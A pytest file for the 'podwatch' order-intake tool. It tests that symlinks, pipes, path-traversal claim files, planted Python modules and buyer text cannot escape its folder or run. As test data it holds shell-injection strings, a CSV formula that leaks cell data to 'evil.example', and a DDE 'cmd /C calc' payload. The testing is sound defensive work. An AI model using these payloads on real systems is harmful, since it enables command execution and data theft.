"""Links, planted bookkeeping, planted modules and buyer text: nothing outside the folder is read, moved or run."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET

import pytest
from conftest import approve_all, artwork, files_in, make_order, run, sha256
from running import configure, ledger_rows

from podwatch.cli.autostart import Platform, plan
from podwatch.cli.main import main
from podwatch.errors import UnreadableUpload
from podwatch.frozen import command_prefix
from podwatch.intake.claims import CLAIM_FILE
from podwatch.outputs import handoff, hooks
from podwatch.outputs.ledger import Ledger
from podwatch.prepress.loading import load_image

links = pytest.mark.skipif(not hasattr(os, "symlink") or sys.platform == "win32", reason="needs symlinks")


def outside(tmp_path):
    """A folder of the seller's computer that is not podwatch's: nothing in it may change."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    artwork((1200, 1200)).save(folder / "tax-return.png")
    (folder / "notes.txt").write_text("private")
    return folder


def snapshot(folder):
    return {p.name: sha256(p) for p in files_in(folder)}


def status_text(root, capsys) -> str:
    capsys.readouterr()
    assert main(["status", "--root", str(root.path)]) == 0
    return capsys.readouterr().out


@links
def test_a_link_in_the_inbox_is_never_followed_and_waits_with_its_reason(root, tmp_path, capsys):
    away = outside(tmp_path)
    before = snapshot(away)
    (root.inbox / "1234.png").symlink_to(away / "tax-return.png")
    (root.inbox / "1234.json").write_text(json.dumps({"order_id": "1234", "product": "sticker"}))
    (root.inbox / "5678.json").write_text(json.dumps(
        {"order_id": "5678", "product": "sticker", "files": ["tax-return.png"]}))
    (root.inbox / "tax-return.png").symlink_to(away / "tax-return.png")
    (root.inbox / "shop-folder").symlink_to(away, target_is_directory=True)

    assert run(root) == 0
    assert files_in(root.review) == [] and files_in(root.archive) == [] and files_in(root.failed) == []
    assert snapshot(away) == before
    assert (root.inbox / "1234.png").is_symlink() and (root.inbox / "shop-folder").is_symlink()
    shown = status_text(root, capsys)
    assert "1234.png is a link (shortcut); podwatch never follows or moves those" in shown
    assert "shop-folder is a link (shortcut)" in shown
    assert "5678.json waits: tax-return.png is a link" in shown


@links
def test_a_link_inside_a_folder_order_keeps_the_whole_folder_waiting(root, tmp_path, capsys):
    away = outside(tmp_path)
    folder = root.inbox / "etsy-77"
    folder.mkdir()
    (folder / "photo.png").symlink_to(away / "tax-return.png")
    (folder / "order.json").write_text(json.dumps({"order_id": "77", "product": "sticker"}))
    assert run(root) == 0
    assert files_in(root.review) == [] and (folder / "photo.png").is_symlink()
    assert "folder order etsy-77 waits: photo.png is a link" in status_text(root, capsys)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_named_pipe_in_the_inbox_waits_and_never_blocks_the_run(root, capsys):
    os.mkfifo(root.inbox / "1234.png")
    (root.inbox / "1234.json").write_text(json.dumps({"order_id": "1234", "product": "sticker"}))
    assert run(root) == 0  # a read would hang here for ever
    assert "1234.png is not a plain file (a device, pipe or socket)" in status_text(root, capsys)


@links
def test_an_upload_is_opened_without_following_a_link(tmp_path):
    away = outside(tmp_path)
    (tmp_path / "claimed.png").symlink_to(away / "tax-return.png")
    with pytest.raises(UnreadableUpload, match="it is a link or not a plain file"):
        load_image(tmp_path / "claimed.png", max_pixels=10**8)


def test_a_planted_claim_cannot_move_or_write_anything_outside_the_folder(root, tmp_path):
    away = outside(tmp_path)
    before = snapshot(away)
    planted = root.claims / "20240101-000000-x-abcdef"
    (planted / "files").mkdir(parents=True)
    (planted / "files" / "x.sh").write_text("echo owned\n")
    (planted / CLAIM_FILE).write_text(json.dumps({
        "origin": {"x.sh": "../../../elsewhere/x.sh", "notes.txt": "../../elsewhere/notes.txt"},
        "folder": "../..", "state": "claiming",
    }))
    failing = root.claims / "20240101-000000-y-abcdef"
    (failing / "files").mkdir(parents=True)
    (failing / CLAIM_FILE).write_text(json.dumps({
        "origin": {"y.json": "y.json"}, "state": "failing",
        "failure": {"name": "../../elsewhere", "message": "planted"},
    }))
    make_order(root, image=artwork((1200, 1200)), product="sticker")

    assert run(root) == 0
    assert snapshot(away) == before and not (away / "x.sh").exists()
    assert files_in(root.inbox) == [] and len(files_in(root.review)) == 1
    assert not (tmp_path / "x.sh").exists() and not (root.path.parent / "elsewhere.error.txt").exists()
    # Set aside, unread, for the seller to look at; never tried again.
    assert sorted(p.name for p in (root.state / "damaged").iterdir()) == [planted.name, failing.name]
    assert run(root) == 0 and list(root.claims.iterdir()) == []


def test_python_is_started_so_that_a_module_planted_in_the_folder_is_never_imported(root, tmp_path):
    marker = tmp_path / "imported"
    (root.path / "loguru.py").write_text(f"open({str(marker)!r}, 'w').write('planted')\n")
    done = subprocess.run([*command_prefix(), "status", "--root", str(root.path)], cwd=root.path,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    # The Windows scheduled task starts it outside the folder too.
    platform = Platform("windows", tmp_path / "home")
    task = ET.fromstring(plan(root.path, platform).content.decode("utf-16").split("\n", 1)[1])
    ns = {"t": "http://schemas.microsoft.com/windows/2004/02/mit/task"}
    assert task.findtext("t:Actions/t:Exec/t:WorkingDirectory", namespaces=ns) == str(tmp_path / "home")
    assert "-P" in task.findtext("t:Actions/t:Exec/t:Arguments", namespaces=ns).split()


RECORD_HOOK = """\
import json, os, pathlib, sys
env = {k: v for k, v in os.environ.items() if k.startswith("PODWATCH_")}
env["order file"] = json.loads(pathlib.Path(env["PODWATCH_ORDER_FILE"]).read_text(encoding="utf-8"))
pathlib.Path(sys.argv[1]).write_text(json.dumps(env))
"""


def hook_order(root, tmp_path, **fields):
    script, record = tmp_path / "hook.py", tmp_path / "hook.json"
    script.write_text(RECORD_HOOK)
    configure(root, production={"hook": f'"{sys.executable}" "{script}" "{record}"'})
    make_order(root, image=artwork((1200, 1200)), product="sticker", **fields)
    run(root)
    approve_all(root)
    return record


def test_no_buyer_text_reaches_the_hooks_environment_on_any_system(root, tmp_path):
    evil = '%COMSPEC% /c calc & "$(touch /tmp/owned)" | ^ !x! `id`'
    record = hook_order(root, tmp_path, order_id="1234", variant="white & calc",
                        personalization={"name": evil}, customer={"name": evil}, instructions=evil)
    assert run(root) == 0
    env = json.loads(record.read_text())
    order = env.pop("order file")
    assert order["order"]["personalization"]["name"] == evil and order["order"]["variant"] == "white & calc"
    for key, value in env.items():
        assert not set(value) & set('%&|<>^"()!`$\n'), f"{key} = {value!r} could become part of a command"
    assert env["PODWATCH_ORDER_ID"] == "1234" and env["PODWATCH_VARIANT"] == "white-calc"


def test_a_hook_that_cannot_even_start_counts_as_a_failed_attempt(root, tmp_path, monkeypatch):
    hook_order(root, tmp_path, instructions="")
    configure(root, production={"hook_retries": 1, "hook_retry_seconds": 0})

    def too_long(*_args):
        raise OSError(7, "Argument list too long")

    monkeypatch.setattr(hooks, "_execute", too_long)
    assert run(root) == 0
    assert run(root) == 0
    (row,) = ledger_rows(root, "1234")
    with Ledger(root.ledger) as ledger:
        handoff = ledger.handoff(row.id)
    assert (handoff.state, handoff.attempts) == ("hook_failed", 2)
    assert "could not be started (OSError: [Errno 7] Argument list too long)" in handoff.last_error


def test_a_long_buyer_note_reaches_the_hook_in_its_order_file(root, tmp_path):
    note = "Please make it lovely. " * 9000  # 200 KB: one environment variable this long cannot be passed
    record = hook_order(root, tmp_path, instructions=note)
    assert run(root) == 0
    assert json.loads(record.read_text())["order file"]["order"]["instructions"] == note


def test_manifest_cells_a_spreadsheet_would_run_are_kept_as_text(root):
    rule = root.rules / "sticker.toml"
    rule.write_text(rule.read_text().replace('policy = "always"', 'policy = "never"'))
    make_order(root, order_id='=HYPERLINK("http://evil.example/?"&A1,"click")', name="a", image=artwork((1200, 1200)),
               product="sticker", variant="@SUM(1+1)")
    make_order(root, order_id="-2+3", name="b", image=artwork((1200, 1200)), product="sticker", variant="+cmd|' /C calc'!A0")
    assert run(root) == 0
    with (root.production / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [row[key] for row in rows for key in ("order_id", "variant")]
    assert cells == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)", "'-2+3",
                     "'+cmd|' /C calc'!A0"]
    assert run(root) == 0
    with (root.production / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        assert len(list(csv.DictReader(handle))) == 2, "a second run adds no row"
    # Tab and carriage return start formulas too; order values cannot hold them (one line), other cells might.
    assert [handoff.spreadsheet_safe(text) for text in ("\tx", "\rx", "1234", 5)] == ["'\tx", "'\rx", "1234", 5]
